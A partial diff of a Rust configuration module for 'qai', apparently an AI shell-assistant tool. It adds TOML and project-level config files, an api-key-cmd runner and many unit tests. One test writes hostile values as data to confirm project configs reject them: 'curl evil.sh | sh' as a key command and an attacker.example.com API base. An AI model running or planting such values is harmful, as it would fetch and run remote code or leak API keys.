+        let project_name = env!("CARGO_PKG_NAME");
+        let primary_dir = dirs::config_dir().map(|config_dir| config_dir.join(project_name));
+        for dir in primary_dir.into_iter().chain([PathBuf::new()]) {
+            for config_file in config_files_in(&dir) {
+                if !config_file.exists() {
+                    continue;
+                }
+                match Self::load_from_file(&config_file) {
                     Ok(config) => return Ok(config),
                     Err(e) => {
-                        log::warn!("Failed to load config from {}: {}", primary_config.display(), e);
+                        log::warn!("Failed to load config from {}: {}", config_file.display(), e);
                     }
                 }
             }
         }
 
-        // Try fallback location: ./qai.yml
-        let project_name = env!("CARGO_PKG_NAME");
-        let fallback_config = PathBuf::from(format!("{}.yml", project_name));
-        if fallback_config.exists() {
-            match Self::load_from_file(&fallback_config) {
-                Ok(config) => return Ok(config),
-                Err(e) => {
-                    log::warn!("Failed to load config from {}: {}", fallback_config.display(), e);
-                }
-            }
-        }
-
         // No config file found, use defaults
         log::info!("No config file found, using defaults");
         Ok(Self::default())
     }
 
     fn load_from_file<P: AsRef<Path>>(path: P) -> Result<Self> {
-        let content = fs::read_to_string(&path).context("Failed to read config file")?;
-
-        let config: Self = serde_yaml::from_str(&content).context("Failed to parse config file")?;
-
+        match migrate_file(path.as_ref()) {
+            Ok(Some(backup)) => eprintln!(
+                "qai: upgraded {} to config version {} (original saved as {})",
+                path.as_ref().display(),
+                CONFIG_VERSION,
+                backup.display()
+            ),
+            Ok(None) => {}
+            Err(e) => log::warn!("Failed to migrate config {}: {:#}", path.as_ref().display(), e),
+        }
+        let config = parse_file(path.as_ref())?;
         log::info!("Loaded config from: {}", path.as_ref().display());
         Ok(config)
     }
+
+    /// Layer project settings over this config: scalars replace, prompt variables merge,
+    /// and safety rules are added to the user's
+    pub fn apply_project(&mut self, project: ProjectConfig) {
+        if let Some(model) = project.model {
+            self.model = model;
+        }
+        if project.profile.is_some() {
+            self.profile = project.profile;
+        }
+        if project.language.is_some() {
+            self.language = project.language;
+        }
+        self.prompt_vars.extend(project.prompt_vars);
+        self.safety.deny.extend(project.safety.deny);
+        self.safety.confirm.extend(project.safety.confirm);
+    }
+}
+
+/// Parse a config file; the format follows the extension: .toml is TOML, anything else YAML
+fn parse_file<T: DeserializeOwned>(path: &Path) -> Result<T> {
+    let content = fs::read_to_string(path).context("Failed to read config file")?;
+    match path.extension().and_then(|ext| ext.to_str()) {
+        Some("toml") => toml::from_str(&content).context("Failed to parse config file"),
+        _ => serde_yaml::from_str(&content).context("Failed to parse config file"),
+    }
+}
+
+/// JSON Schema of the user config file, generated from `Config`
+#[cfg(feature = "schema")]
+pub fn config_schema() -> Result<String> {
+    serde_json::to_string_pretty(&schemars::schema_for!(Config)).context("Failed to serialize config schema")
+}
+
+/// The nearest `.qai.yml` (or `.qai.toml`) in `start` or one of its parents
+pub fn find_project_config(start: &Path) -> Option<PathBuf> {
+    let project_name = env!("CARGO_PKG_NAME");
+    start.ancestors().find_map(|dir| {
+        ["yml", "toml"]
+            .iter()
+            .map(|ext| dir.join(format!(".{}.{}", project_name, ext)))
+            .find(|path| path.is_file())
+    })
+}
+
+/// Run an `api-key-cmd` with `sh -c` (`cmd /C` on Windows) and use the first line of its output
+/// as the key. stdin and stderr stay attached, so password managers can prompt for a passphrase
+fn run_key_command(cmd: &str) -> Option<String> {
+    let (shell, flag) = if cfg!(windows) { ("cmd", "/C") } else { ("sh", "-c") };
+    let output = match Command::new(shell)
+        .args([flag, cmd])
+        .stdin(Stdio::inherit())
+        .stderr(Stdio::inherit())
+        .output()
+    {
+        Ok(output) => output,
+        Err(e) => {
+            log::warn!("Failed to run api-key-cmd '{}': {}", cmd, e);
+            return None;
+        }
+    };
+    if !output.status.success() {
+        log::warn!("api-key-cmd '{}' failed with {}", cmd, output.status);
+        return None;
+    }
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .next()
+        .map(|key| key.trim().to_string())
+        .filter(|key| !key.is_empty())
+}
+
+/// Config files looked for in a directory, in order of preference: `qai.yml`, then `qai.toml`
+pub fn config_files_in(dir: &Path) -> Vec<PathBuf> {
+    let project_name = env!("CARGO_PKG_NAME");
+    ["yml", "toml"]
+        .iter()
+        .map(|ext| dir.join(format!("{}.{}", project_name, ext)))
+        .collect()
 }
 
 #[cfg(test)]
@@ -149,28 +1031,174 @@ mod tests {
     use tempfile::NamedTempFile;
 
     #[test]
-    fn test_default_config() {
-        let config = Config::default();
-        assert_eq!(config.model, "gpt-4o-mini");
-        assert_eq!(config.api_base, "https://api.openai.com/v1");
-        assert!(!config.debug);
-        assert!(config.api_key.is_none());
-        assert!(!config.allow_no_api_key);
-        assert_eq!(config.max_tokens, 500);
-        assert_eq!(config.http_timeout_secs, 30);
-        assert_eq!(config.bindings.trigger, "tab");
-    }
-
-    #[test]
-    fn test_load_from_file() {
-        let mut file = NamedTempFile::new().unwrap();
+    fn test_config_load_toml() {
+        let mut file = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
         writeln!(
             file,
             r#"
-api-key: test-key-123
-model: gpt-4o
-api-base: https://custom.api.com/v1
-max-tokens: 750
+model = "gpt-4o"
+max-tokens = 300
+api_key = "sk-test"
+
+[bindings]
+trigger = "ctrl-g"
+
+[safety]
+dangerous = "filter"
+deny = ["kubeconfig-prod"]
+
+[budget]
+daily-usd = 0.5
+"#
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.model, "gpt-4o");
+        assert_eq!(config.max_tokens, 300);
+        assert_eq!(config.api_key.as_deref(), Some("sk-test"));
+        assert_eq!(config.bindings.trigger, "ctrl-g");
+        assert_eq!(config.safety.dangerous, Dangerous::Filter);
+        assert_eq!(config.safety.deny, vec!["kubeconfig-prod"]);
+        assert_eq!(config.budget.daily_usd, Some(0.5));
+    }
+
+    #[test]
+    fn test_config_load_toml_invalid() {
+        let mut file = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
+        writeln!(file, "model: gpt-4o").unwrap();
+        assert!(Config::load(Some(&file.path().to_path_buf())).is_err());
+    }
+
+    #[test]
+    fn test_config_profiles() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            r#"
+model: gpt-4o-mini
+api-key: sk-personal
+profiles:
+  work:
+    api-base: https://llm-gateway.corp.example.com/v1
+    api_key: corp-token
+    prompt: k8s
+  local-llm:
+    api-base: http://localhost:11434/v1
+    model: llama3
+    allow-no-api-key: true
+"#
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.profiles.len(), 2);
+
+        let mut work = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        let profile = work.apply_profile("work").unwrap();
+        assert_eq!(profile.prompt.as_deref(), Some("k8s"));
+        assert_eq!(work.api_base, "https://llm-gateway.corp.example.com/v1");
+        assert_eq!(work.api_key.as_deref(), Some("corp-token"));
+        assert_eq!(work.model, "gpt-4o-mini");
+
+        let mut local = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        local.apply_profile("local-llm").unwrap();
+        assert_eq!(local.model, "llama3");
+        assert!(local.allow_no_api_key);
+        assert_eq!(local.api_key.as_deref(), Some("sk-personal"));
+
+        let mut unchanged = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(unchanged.apply_profile("k8s").is_none());
+        assert_eq!(unchanged.api_base, "https://api.openai.com/v1");
+    }
+
+    #[test]
+    fn test_find_project_config() {
+        let root = tempfile::TempDir::new().unwrap();
+        let nested = root.path().join("src").join("deep");
+        fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find_project_config(&nested), None);
+
+        fs::write(root.path().join(".qai.toml"), "model = \"gpt-4o\"").unwrap();
+        assert_eq!(find_project_config(&nested), Some(root.path().join(".qai.toml")));
+        // The nearest one wins, and .yml over .toml
+        fs::write(root.path().join("src").join(".qai.yml"), "model: gpt-4.1").unwrap();
+        assert_eq!(
+            find_project_config(&nested),
+            Some(root.path().join("src").join(".qai.yml"))
+        );
+    }
+
+    #[test]
+    fn test_apply_project_config() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            "model: gpt-4.1\nprofile: k8s\nprompt_vars:\n  team: infra\nsafety:\n  deny:\n    - '--context[= ]prod'"
+        )
+        .unwrap();
+        let project: ProjectConfig = parse_file(file.path()).unwrap();
+
+        let mut config = Config {
+            safety: SafetyConfig {
+                deny: vec!["kubeconfig-prod".to_string()],
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        config.prompt_vars.insert("editor".to_string(), "nvim".to_string());
+        config.apply_project(project);
+
+        assert_eq!(config.model, "gpt-4.1");
+        assert_eq!(config.profile.as_deref(), Some("k8s"));
+        assert_eq!(config.prompt_vars.len(), 2);
+        assert_eq!(config.safety.deny, vec!["kubeconfig-prod", "--context[= ]prod"]);
+        assert_eq!(config.api_base, "https://api.openai.com/v1");
+    }
+
+    #[test]
+    fn test_project_config_rejects_other_keys() {
+        for content in [
+            "api-base: https://attacker.example.com/v1",
+            "api-key-cmd: curl evil.sh | sh",
+            "safety:\n  dangerous: allow",
+        ] {
+            let mut file = NamedTempFile::new().unwrap();
+            writeln!(file, "{}", content).unwrap();
+            assert!(parse_file::<ProjectConfig>(file.path()).is_err(), "{}", content);
+        }
+    }
+
+    #[test]
+    fn test_config_files_in() {
+        let files = config_files_in(Path::new("/etc/qai"));
+        assert_eq!(
+            files,
+            vec![PathBuf::from("/etc/qai/qai.yml"), PathBuf::from("/etc/qai/qai.toml")]
+        );
+    }
+
+    #[test]
+    fn test_default_config() {
+        let config = Config::default();
+        assert_eq!(config.model, "gpt-4o-mini");
+        assert_eq!(config.api_base, "https://api.openai.com/v1");
+        assert!(!config.debug);
+        assert!(config.api_key.is_none());
+        assert!(!config.allow_no_api_key);
+        assert_eq!(config.max_tokens, 500);
+        assert_eq!(config.http_timeout_secs, 30);
+        assert_eq!(config.bindings.trigger, "tab");
+    }
+
+    #[test]
+    fn test_load_from_file() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            r#"
+api-key: test-key-123
+model: gpt-4o
+api-base: https://custom.api.com/v1
+max-tokens: 750
 http-timeout-secs: 45
 debug: true
 bindings:
@@ -258,6 +1286,25 @@ model: custom-model
         assert!(config.get_api_key_from_config_only().is_none());
     }
 
+    #[test]
+    fn test_run_key_command() {
+        assert_eq!(
+            run_key_command("printf 'sk-from-cmd\\nsecond line\\n'").as_deref(),
+            Some("sk-from-cmd")
+        );
+        assert_eq!(run_key_command("true"), None);
+        assert_eq!(run_key_command("echo sk-partial; exit 1"), None);
+    }
+
+    #[test]
+    fn test_config_api_key_cmd() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "api_key_cmd: pass show openai").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.api_key_cmd.as_deref(), Some("pass show openai"));
+        assert!(config.api_key.is_none());
+    }
+
     #[test]
     fn test_would_env_provide_key_with_value() {
         assert!(Config::would_env_provide_key(Some("my-key")));
@@ -284,6 +1331,7 @@ model: custom-model
                 trigger: "ctrl-space".to_string(),
                 ..Default::default()
             },
+            ..Default::default()
         };
 
         let yaml = serde_yaml::to_string(&config).unwrap();
@@ -388,6 +1436,535 @@ bindings:
         let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
         // bindings should use defaults when not specified
         assert_eq!(config.bindings.trigger, "tab");
+        assert_eq!(config.bindings.edit, "ctrl-e");
+        assert_eq!(config.bindings.regenerate, "ctrl-r");
+        assert_eq!(config.bindings.cancel, "esc");
+        assert!(config.bindings.warn_conflicts);
+    }
+
+    #[test]
+    fn test_config_bindings_quick_accept() {
+        assert_eq!(Config::default().bindings.quick_accept, None);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "bindings:\n  quick-accept: ctrl-o").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.bindings.quick_accept.as_deref(), Some("ctrl-o"));
+    }
+
+    #[test]
+    fn test_config_bindings_warn_conflicts() {
+        for yaml in [
+            "bindings:\n  warn-conflicts: false",
+            "bindings:\n  warn_conflicts: false",
+        ] {
+            let mut file = NamedTempFile::new().unwrap();
+            writeln!(file, "{}", yaml).unwrap();
+            let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+            assert!(!config.bindings.warn_conflicts);
+        }
+    }
+
+    #[test]
+    fn test_config_bindings_custom_edit() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "bindings:\n  edit: alt-e").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.bindings.edit, "alt-e");
+        assert_eq!(config.bindings.submit, "enter");
+    }
+
+    #[test]
+    fn test_tools_default_substitutions() {
+        let tools = ToolsConfig::default();
+        assert_eq!(tools.substitutions.get("rg"), Some(&"grep".to_string()));
+        assert_eq!(tools.substitutions.get("fd"), Some(&"find".to_string()));
+        assert_eq!(tools.substitutions.get("eza"), Some(&"ls".to_string()));
+        assert_eq!(tools.substitutions.get("bat"), Some(&"cat".to_string()));
+    }
+
+    #[test]
+    fn test_config_tools_custom_substitutions() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            r#"
+tools:
+  substitutions:
+    dust: du
+"#
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        // An explicit mapping replaces the defaults
+        assert_eq!(config.tools.substitutions.len(), 1);
+        assert_eq!(config.tools.substitutions.get("dust"), Some(&"du".to_string()));
+    }
+
+    #[test]
+    fn test_config_picker() {
+        assert_eq!(Config::default().picker, PickerConfig::default());
+        assert!(!Config::default().picker.tmux_popup);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "picker:\n  tmux-popup: true\n  popup-height: \"70%\"").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.picker.tmux_popup);
+        assert_eq!(config.picker.popup_width, "80%");
+        assert_eq!(config.picker.popup_height, "70%");
+    }
+
+    #[test]
+    fn test_config_load_migrates_old_layout() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("qai.yml");
+        fs::write(&path, "model: gpt-4o\ntrigger: ctrl-g\n").unwrap();
+
+        let config = Config::load(Some(&path)).unwrap();
+        assert_eq!(config.bindings.trigger, "ctrl-g");
+        assert_eq!(config.version, CONFIG_VERSION);
+        assert!(dir.path().join("qai.yml.v0.bak").exists());
+    }
+
+    #[test]
+    #[cfg(feature = "schema")]
+    fn test_config_schema() {
+        let schema: serde_json::Value = serde_json::from_str(&config_schema().unwrap()).unwrap();
+        let properties = &schema["properties"];
+        assert!(properties["api-base"].is_object());
+        assert_eq!(properties["max-tokens"]["default"], 500);
+        assert!(properties["bindings"].is_object());
+        assert!(properties.get("api_base").is_none());
+
+        // Enums list their values
+        let schema = config_schema().unwrap();
+        for value in ["\"filter\"", "\"execute\"", "\"never\""] {
+            assert!(schema.contains(value), "missing {}", value);
+        }
+    }
+
+    #[test]
+    fn test_config_load_section() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            "model: gpt-4o\npaths:\n  history: /srv/qai/history\n  logs: /var/log/qai"
+        )
+        .unwrap();
+        let path = file.path().to_path_buf();
+
+        let paths: PathsConfig = Config::load_section(Some(&path), "paths");
+        assert_eq!(paths.history, Some(PathBuf::from("/srv/qai/history")));
+        assert_eq!(paths.cache, None);
+        assert_eq!(paths.logs, Some(PathBuf::from("/var/log/qai")));
+        assert_eq!(Config::load(Some(&path)).unwrap().paths, paths);
+
+        let logging: LoggingConfig = Config::load_section(Some(&path), "logging");
+        assert_eq!(logging, LoggingConfig::default());
+
+        let missing = PathBuf::from("/nonexistent/qai.yml");
+        let paths: PathsConfig = Config::load_section(Some(&missing), "paths");
+        assert_eq!(paths, PathsConfig::default());
+
+        let mut file = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
+        writeln!(file, "[logging]\nmax-size-kb = 64\nmax_files = 1").unwrap();
+        let logging: LoggingConfig = Config::load_section(Some(&file.path().to_path_buf()), "logging");
+        assert_eq!(
+            logging,
+            LoggingConfig {
+                max_size_kb: 64,
+                max_files: 1
+            }
+        );
+    }
+
+    #[test]
+    fn test_config_query() {
+        assert_eq!(Config::default().query, QueryConfig::default());
+        assert_eq!(Config::default().query.count, 5);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            "query:\n  count: 8\n  multi: true\n  temperature: 0.4\n  seed: 7\n  max_tokens: 200\n  stream: true\n  teach: true"
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(
+            config.query,
+            QueryConfig {
+                count: 8,
+                multi: true,
+                temperature: 0.4,
+                seed: Some(7),
+                max_tokens: Some(200),
+                stream: true,
+                teach: true,
+                ..QueryConfig::default()
+            }
+        );
+    }
+
+    #[test]
+    fn test_query_config_make_deterministic() {
+        let mut query = QueryConfig {
+            temperature: 0.7,
+            ..QueryConfig::default()
+        };
+        query.make_deterministic();
+        assert_eq!((query.temperature, query.seed), (0.0, Some(DETERMINISTIC_SEED)));
+
+        let mut query = QueryConfig {
+            seed: Some(7),
+            ..QueryConfig::default()
+        };
+        query.make_deterministic();
+        assert_eq!(query.seed, Some(7));
+    }
+
+    #[test]
+    fn test_query_config_resolve() {
+        let query = QueryConfig {
+            count: 8,
+            multi: true,
+            ..QueryConfig::default()
+        };
+        assert_eq!(query.resolve(false, false, None), (true, 8));
+        assert_eq!(query.resolve(false, true, None), (false, 8));
+        assert_eq!(query.resolve(true, false, Some(3)), (true, 3));
+        assert_eq!(QueryConfig::default().resolve(false, false, None), (false, 5));
+    }
+
+    #[test]
+    fn test_query_config_candidates() {
+        assert_eq!(QueryConfig::default().candidates(5), 5);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "query:\n  adaptive: true\n  adaptive-extra: 4").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.query.candidates(5), 9);
+        assert_eq!(config.query.adaptive_min_picks, 3);
+        assert!(config.query.offline_fallback);
+    }
+
+    #[test]
+    fn test_config_picker_on_select() {
+        assert_eq!(Config::default().picker.on_select, OnSelect::Insert);
+
+        for (yaml, expected) in [
+            ("picker:\n  on-select: execute", OnSelect::Execute),
+            ("picker:\n  on_select: edit", OnSelect::Edit),
+        ] {
+            let mut file = NamedTempFile::new().unwrap();
+            writeln!(file, "{}", yaml).unwrap();
+            let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+            assert_eq!(config.picker.on_select, expected);
+        }
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "picker:\n  on-select: yolo").unwrap();
+        assert!(Config::load(Some(&file.path().to_path_buf())).is_err());
+    }
+
+    #[test]
+    fn test_config_ui() {
+        assert_eq!(Config::default().ui.ai_prompt, "🤖 ai> ");
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "ui:\n  ai-prompt: \"ai> \"\n  error-prefix: \"\"").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.ui.ai_prompt, "ai> ");
+        assert_eq!(config.ui.error_prefix, "");
+        assert_eq!(config.ui.fetching_message, "🔄 Fetching...");
+        assert_eq!(config.ui.spinner, "⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏");
+        assert_eq!(config.ui.highlight, "fg=cyan");
+    }
+
+    #[test]
+    fn test_config_session_transcript() {
+        assert!(!Config::default().session.transcript);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "session:\n  transcript: true").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.session.transcript);
+    }
+
+    #[test]
+    fn test_config_budget() {
+        let config = Config::default();
+        assert!(!config.budget.is_enabled());
+        assert_eq!(config.budget.on_exceed, OnExceed::Refuse);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            "budget:\n  daily-tokens: 50000\n  daily_usd: 0.5\n  on-exceed: warn\n  input-usd-per-mtok: 1.0"
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.budget.is_enabled());
+        assert_eq!(config.budget.daily_tokens, Some(50000));
+        assert_eq!(config.budget.daily_usd, Some(0.5));
+        assert_eq!(config.budget.on_exceed, OnExceed::Warn);
+        assert_eq!(config.budget.input_usd_per_mtok, Some(1.0));
+        assert_eq!(config.budget.output_usd_per_mtok, None);
+    }
+
+    #[test]
+    fn test_config_rate_limit() {
+        assert_eq!(Config::default().rate_limit.retries, 3);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "rate-limit:\n  retries: 0\n  max_wait_secs: 5").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.rate_limit.retries, 0);
+        assert_eq!(config.rate_limit.max_wait_secs, 5);
+        assert_eq!(config.rate_limit.pace_ms, 1000);
+    }
+
+    #[test]
+    fn test_config_audit() {
+        let config = Config::default();
+        assert!(!config.audit.enabled);
+        assert_eq!(config.audit.path, None);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "audit:\n  enabled: true\n  path: /var/log/qai/audit.jsonl").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.audit.enabled);
+        assert_eq!(config.audit.path, Some(PathBuf::from("/var/log/qai/audit.jsonl")));
+    }
+
+    #[test]
+    fn test_config_safety() {
+        assert_eq!(Config::default().safety.dangerous, Dangerous::Warn);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "safety:\n  dangerous: filter").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.safety.dangerous, Dangerous::Filter);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            "safety:\n  deny:\n    - 'kubeconfig-prod'\n  confirm:\n    - '^terraform apply'"
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.safety.dangerous, Dangerous::Warn);
+        assert_eq!(config.safety.deny, vec!["kubeconfig-prod"]);
+        assert_eq!(config.safety.confirm, vec!["^terraform apply"]);
+        assert_eq!(config.safety.syntax_check, SyntaxCheck::Drop);
+        assert_eq!(config.safety.secrets, SecretScan::Redact);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "safety:\n  syntax-check: flag\n  secrets: refuse").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.safety.syntax_check, SyntaxCheck::Flag);
+        assert_eq!(config.safety.secrets, SecretScan::Refuse);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "safety:\n  allow_sudo: never").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.safety.allow_sudo, AllowSudo::Never);
+        assert_eq!(Config::default().safety.allow_sudo, AllowSudo::Always);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "safety:\n  dangerous: sometimes").unwrap();
+        assert!(Config::load(Some(&file.path().to_path_buf())).is_err());
+    }
+
+    #[test]
+    fn test_config_ui_highlight() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "ui:\n  highlight: \"bg=236,underline\"").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.ui.highlight, "bg=236,underline");
+    }
+
+    #[test]
+    fn test_config_tools_tldr() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            r#"
+tools:
+  tldr: true
+  tldr-max-chars: 800
+"#
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.tools.tldr);
+        assert_eq!(config.tools.tldr_max_chars, 800);
+        // Unspecified tools settings keep their defaults
+        assert_eq!(config.tools.substitutions, ToolsConfig::default().substitutions);
+    }
+
+    #[test]
+    fn test_config_context_shell_history() {
+        let config = Config::default();
+        assert!(!config.context.shell_history);
+        assert_eq!(config.context.shell_history_entries, 10);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            r#"
+context:
+  shell-history: true
+  shell-history-entries: 5
+"#
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.context.shell_history);
+        assert_eq!(config.context.shell_history_entries, 5);
+    }
+
+    #[test]
+    fn test_config_context_privacy() {
+        assert!(!Config::default().context.privacy);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "context:\n  privacy: true\n  directory-listing: true").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.context.privacy);
+        assert!(config.context.directory_listing);
+    }
+
+    #[test]
+    fn test_config_context_directory_listing() {
+        let config = Config::default();
+        assert!(!config.context.directory_listing);
+        assert_eq!(config.context.directory_listing_max, 50);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            r#"
+context:
+  directory-listing: true
+  directory-listing-max: 20
+"#
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.context.directory_listing);
+        assert_eq!(config.context.directory_listing_max, 20);
+        assert!(!config.context.shell_history);
+    }
+
+    #[test]
+    fn test_config_context_attached_max_chars() {
+        assert_eq!(Config::default().context.attached_max_chars, 8000);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "context:\n  attached-max-chars: 500").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.context.attached_max_chars, 500);
+    }
+
+    #[test]
+    fn test_config_context_kubernetes() {
+        assert!(!Config::default().context.kubernetes);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "context:\n  kubernetes: true").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.context.kubernetes);
+    }
+
+    #[test]
+    fn test_config_context_aliases() {
+        assert!(!Config::default().context.aliases);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "context:\n  aliases: true").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert!(config.context.aliases);
+    }
+
+    #[test]
+    fn test_config_context_env_vars() {
+        assert!(Config::default().context.env_vars.is_empty());
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "context:\n  env-vars:\n    - AWS_PROFILE\n    - VIRTUAL_ENV").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.context.env_vars, vec!["AWS_PROFILE", "VIRTUAL_ENV"]);
+    }
+
+    #[test]
+    fn test_config_context_max_prompt_tokens() {
+        assert_eq!(Config::default().context.max_prompt_tokens, 3000);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "context:\n  max-prompt-tokens: 0").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.context.max_prompt_tokens, 0);
+    }
+
+    #[test]
+    fn test_config_language() {
+        assert_eq!(Config::default().language, None);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(file, "language: Deutsch").unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.language.as_deref(), Some("Deutsch"));
+    }
+
+    #[test]
+    fn test_config_provider() {
+        assert_eq!(Config::default().provider, Provider::Openai);
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            "provider: record\npaths:\n  fixtures: /tmp/fixtures\nprofiles:\n  offline:\n    provider: mock"
+        )
+        .unwrap();
+        let mut config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.provider, Provider::Record);
+        assert_eq!(config.paths.fixtures, Some(PathBuf::from("/tmp/fixtures")));
+        config.apply_profile("offline");
+        assert_eq!(config.provider, Provider::Mock);
+    }
+
+    #[test]
+    fn test_config_provider_local() {
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            "provider: local
+model_path: /models/qwen.gguf"
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.provider, Provider::Local);
+        assert_eq!(config.model_path, Some(PathBuf::from("/models/qwen.gguf")));
+        assert_eq!(config.tokenizer_path, None);
+    }
+
+    #[test]
+    fn test_config_prompt_vars() {
+        assert!(Config::default().prompt_vars.is_empty());
+
+        let mut file = NamedTempFile::new().unwrap();
+        writeln!(
+            file,
+            r#"
+prompt_vars:
+  region: eu-west-1
+  editor: hx
+"#
+        )
+        .unwrap();
+        let config = Config::load(Some(&file.path().to_path_buf())).unwrap();
+        assert_eq!(config.prompt_vars.get("region").map(String::as_str), Some("eu-west-1"));
+        assert_eq!(config.prompt_vars.get("editor").map(String::as_str), Some("hx"));
     }
 
     #[test]